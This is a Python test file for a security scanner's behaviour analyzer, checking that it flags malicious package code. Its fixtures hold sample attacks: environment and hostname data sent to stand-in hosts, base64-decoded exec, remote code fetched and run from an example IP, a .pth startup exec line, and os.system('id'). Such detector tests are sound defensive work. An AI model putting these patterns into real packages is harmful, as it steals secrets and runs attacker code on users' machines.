"""The behaviour model follows data across aliases, helpers and files, weighs when code runs,
reads Python 2, and says what it could not parse."""

from __future__ import annotations

from reviewer.core.behaviour import BehaviourAnalyzer
from reviewer.core.diff import parse_diff
from reviewer.core.engine import scan
from reviewer.core.findings import Finding, Severity, SkipReason


def diff_of(files: dict[str, str]) -> bytes:
    out = []
    for path, text in files.items():
        lines = text.strip("\n").split("\n")
        body = "".join(f"+{line}\n" for line in lines)
        out.append(
            f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
            f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}"
        )
    return "".join(out).encode()


def run(files: dict[str, str]):
    return scan(parse_diff(diff_of(files)), analyzers=[BehaviourAnalyzer()])


def rules(files: dict[str, str], min_severity: Severity = Severity.MEDIUM) -> set[tuple[str, str]]:
    return {
        (f.rule_id, f.severity.label) for f in run(files).findings if f.severity >= min_severity
    }


def only(files: dict[str, str], rule: str) -> Finding:
    hits = [f for f in run(files).findings if f.rule_id == rule]
    assert len(hits) == 1, [f.rule_id for f in run(files).findings]
    return hits[0]


def test_import_aliases_and_getattr_are_resolved() -> None:
    code = """
import requests as r
from os import environ as e
import builtins
def go():
    getattr(r, "post")("https://x.example", data=str(e))
"""
    assert ("py-behaviour-environment-sent", "medium") in rules({"pkg/mod.py": code})


def test_data_through_a_chain_of_helpers_reaches_the_sink() -> None:
    code = """
import socket, urllib.request
def who():
    return socket.gethostname()
def wrap(x):
    return {"h": x}
def send(payload):
    urllib.request.urlopen("https://c.example/?" + str(payload))
def main():
    send(wrap(who()))
main()
"""
    f = only({"pkg/__init__.py": code}, "py-behaviour-identity-sent")
    assert f.severity >= Severity.HIGH  # runs on import
    assert "identity" in f.message and "import" in f.message


def test_a_flow_across_two_files_of_the_change() -> None:
    util = """
import requests
def upload(data):
    requests.post("https://c.example/u", data=data)
"""
    init = """
import os
from .util import upload
upload(repr(os.environ))
"""
    found = rules({"pkg/util.py": util, "pkg/__init__.py": init})
    assert ("py-behaviour-environment-sent", "critical") in found


def test_the_same_flow_weighs_less_in_a_function_nothing_calls() -> None:
    body = """
import base64
def later():
    exec(base64.b64decode("cHJpbnQoMSk="))
"""
    called = body + "later()\n"
    assert ("py-behaviour-decoded-exec", "medium") in rules({"tool/x.py": body})
    assert ("py-behaviour-decoded-exec", "critical") in rules({"setup.py": called})


def test_pth_import_lines_run_at_startup() -> None:
    pth = "some/path\nimport base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n"
    f = only({"evil.pth": pth}, "py-behaviour-decoded-exec")
    assert f.severity is Severity.CRITICAL and f.start_line == 2


def test_python2_files_are_read_not_dropped() -> None:
    code = """
import urllib2, base64
print "installing"
exec base64.b64decode("aW1wb3J0IG9z")
try:
    exec urllib2.urlopen("http://198.51.100.2/p").read()
except Exception, e:
    pass
"""
    found = rules({"setup.py": code})
    assert ("py-behaviour-decoded-exec", "critical") in found
    assert ("py-behaviour-remote-code-run", "critical") in found


def test_the_statements_that_parse_are_read_when_others_do_not() -> None:
    code = """
import base64
def broken(:
    pass
exec(base64.b64decode("aW1wb3J0IG9z"))
"""
    result = run({"setup.py": code})
    assert ("py-behaviour-decoded-exec", "critical") in {
        (f.rule_id, f.severity.label) for f in result.findings
    }
    # a whole file with lines no parser read is not fully analysed: the check cannot be green
    assert [(s.path, s.reason) for s in result.skipped] == [("setup.py", SkipReason.UNPARSABLE)]


def test_a_file_no_python_parses_is_listed_as_skipped() -> None:
    result = run({"pkg/broken.py": "def (:\n  pass\n"})
    assert [(s.path, s.reason) for s in result.skipped] == [
        ("pkg/broken.py", SkipReason.UNPARSABLE)
    ]
    assert "pkg/broken.py" in result.skipped[0].path


def test_deeply_nested_code_is_bounded_and_reported() -> None:
    code = "x = " + "(" * 400 + "1" + ")" * 400 + "\nimport os\nos.system('id')\n"
    result = run({"pkg/deep.py": code})
    assert not result.errors


def test_everyday_setup_py_stays_quiet() -> None:
    code = """
import os, re, subprocess, sys
from setuptools import setup, find_packages
here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "pkg", "__init__.py")) as f:
    version = re.search(r"__version__ = '(.*)'", f.read()).group(1)
if os.environ.get("BUILD_NATIVE"):
    subprocess.check_call([sys.executable, "build_ext.py", "--user", os.getlogin()])
exec(open(os.path.join(here, "pkg", "about.py")).read())
setup(name="pkg", version=version, packages=find_packages())
"""
    assert rules({"setup.py": code}, Severity.LOW) == set()


def test_a_setup_command_run_only_on_request_is_not_an_install_hook() -> None:
    """A `python setup.py fetch_css` command downloads when asked; an install subclass runs on
    every install."""
    template = """
import os, socket
from urllib.request import urlopen
from setuptools import setup, Command
from setuptools.command.install import install
class Step({base}):
    def run(self):
        urlopen("https://cdn.example/x?h=" + socket.gethostname()).read()
setup(name="p", cmdclass={{"step": Step}})
"""
    on_request = rules({"setup.py": template.format(base="Command")}, Severity.LOW)
    on_install = rules({"setup.py": template.format(base="install")}, Severity.LOW)
    assert ("py-behaviour-identity-sent", "medium") in on_request
    assert ("py-behaviour-identity-sent", "high") in on_install
    assert not any(r == "py-behaviour-unasked-request" for r, _ in on_request)
